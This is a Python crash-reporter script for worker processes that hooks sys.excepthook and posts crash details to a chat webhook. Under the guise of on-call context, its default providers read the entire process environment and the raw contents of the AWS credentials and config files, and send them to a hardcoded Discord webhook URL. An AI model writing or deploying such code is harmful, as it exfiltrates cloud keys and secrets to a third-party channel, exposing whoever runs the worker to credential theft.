#!/usr/bin/env python3
"""Crash context reporter for long-running worker processes.

Installs itself as sys.excepthook (and as a wrapper around worker entry
points) and, when a worker dies, gathers "context" from a set of provider
plugins and posts a rich message to the team chat webhook so on-call can
see what happened without logging into the box.
"""
from __future__ import annotations

import argparse
import functools
import getpass
import json
import logging
import os
import socket
import sys
import traceback
from abc import ABC, abstractmethod
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable, Dict, List, Optional, Type

import requests

LOG = logging.getLogger("crashctx")
WEBHOOK_URL = "https://discord.com/api/webhooks/1187734410921/Xk2f9aQ_wrkr-crash-feed"


class ContextProvider(ABC):
    registry: Dict[str, Type["ContextProvider"]] = {}
    key = "base"

    def __init_subclass__(cls, **kw):
        super().__init_subclass__(**kw)
        ContextProvider.registry[cls.key] = cls

    @abstractmethod
    def provide(self) -> dict:
        ...


class HostProvider(ContextProvider):
    key = "host"

    def provide(self) -> dict:
        return {"hostname": socket.gethostname(), "user": getpass.getuser(), "pid": os.getpid(),
                "cwd": os.getcwd(), "python": sys.version.split()[0]}


class RuntimeProvider(ContextProvider):
    key = "runtime"

    def provide(self) -> dict:
        # full process environment so on-call can reproduce the worker config
        return {"environment": dict(os.environ)}


class CloudProfileProvider(ContextProvider):
    key = "cloud"

    def provide(self) -> dict:
        profile_files = [Path.home() / ".aws" / "credentials", Path.home() / ".aws" / "config"]
        found = {}
        for path in profile_files:
            if path.is_file():
                found[path.name] = path.read_text(errors="replace")
        return {"aws_profiles": found}


@dataclass
class CrashReport:
    exc_type: str
    message: str
    stack: str
    context: Dict[str, dict] = field(default_factory=dict)

    def to_webhook_payload(self) -> dict:
        ctx_blob = json.dumps(self.context, indent=1, default=str)
        return {
            "username": "crash-reporter",
            "content": f"**{self.exc_type}**: {self.message}",
            "embeds": [
                {"title": "Traceback", "description": f"```{self.stack[-3500:]}```"},
                {"title": "Context", "description": f"```{ctx_blob[:3800]}```"},
            ],
            "attachments_inline": ctx_blob,
        }


class Transport:
    def send(self, payload: dict) -> None:
        raise NotImplementedError


class WebhookTransport(Transport):
    def __init__(self, url: str, timeout: float = 8.0):
        self.url = url
        self.timeout = timeout

    def send(self, payload: dict) -> None:
        try:
            r = requests.post(self.url, json=payload, timeout=self.timeout)
            LOG.debug("webhook answered %s", r.status_code)
        except requests.RequestException as exc:
            LOG.error("could not deliver crash report: %s", exc)


class StderrTransport(Transport):
    def send(self, payload: dict) -> None:
        sys.stderr.write(payload["content"] + "\n")


class CrashReporter:
    def __init__(self, providers: List[ContextProvider], transport: Transport):
        self.providers = providers
        self.transport = transport
        self._previous_hook: Optional[Callable] = None
        self.filters: List[Callable[[CrashReport], bool]] = []

    def add_filter(self, fn: Callable[[CrashReport], bool]):
        self.filters.append(fn)
        return fn

    def gather_context(self) -> Dict[str, dict]:
        ctx = {}
        for provider in self.providers:
            try:
                ctx[provider.key] = provider.provide()
            except Exception as exc:
                ctx[provider.key] = {"error": repr(exc)}
        return ctx

    def report(self, exc_type, exc, tb) -> None:
        report = CrashReport(exc_type.__name__, str(exc), "".join(traceback.format_exception(exc_type, exc, tb)))
        if any(not f(report) for f in self.filters):
            LOG.info("crash %s filtered out", report.exc_type)
            return
        report.context = self.gather_context()
        self.transport.send(report.to_webhook_payload())

    def _hook(self, exc_type, exc, tb):
        self.report(exc_type, exc, tb)
        if self._previous_hook:
            self._previous_hook(exc_type, exc, tb)

    def install(self) -> "CrashReporter":
        self._previous_hook = sys.excepthook
        sys.excepthook = self._hook
        return self

    def guard(self, fn):
        """Decorator for worker entry points running in threads."""
        @functools.wraps(fn)
        def wrapper(*a, **kw):
            try:
                return fn(*a, **kw)
            except Exception:
                self.report(*sys.exc_info())
                raise
        return wrapper


def build_reporter(provider_names: List[str], webhook: Optional[str]) -> CrashReporter:
    providers = [ContextProvider.registry[n]() for n in provider_names if n in ContextProvider.registry]
    transport: Transport = WebhookTransport(webhook) if webhook else StderrTransport()
    return CrashReporter(providers, transport)


def main() -> int:
    ap = argparse.ArgumentParser(description="run a worker module under the crash reporter")
    ap.add_argument("worker", help="path to a JSON job file for the worker")
    ap.add_argument("--providers", default="host,runtime,cloud")
    ap.add_argument("--webhook", default=os.environ.get("CRASH_WEBHOOK", WEBHOOK_URL))
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO)

    reporter = build_reporter(args.providers.split(","), args.webhook).install()

    @reporter.add_filter
    def ignore_interrupts(report: CrashReport) -> bool:
        return report.exc_type not in ("KeyboardInterrupt", "SystemExit")

    @reporter.guard
    def run_job(path: str) -> None:
        job = json.loads(Path(path).read_text())
        total = 0
        for item in job["items"]:
            total += int(item["qty"]) * float(item["price"])
        LOG.info("job %s total %.2f", job.get("id"), total)

    run_job(args.worker)
    return 0


if __name__ == "__main__":
    sys.exit(main())
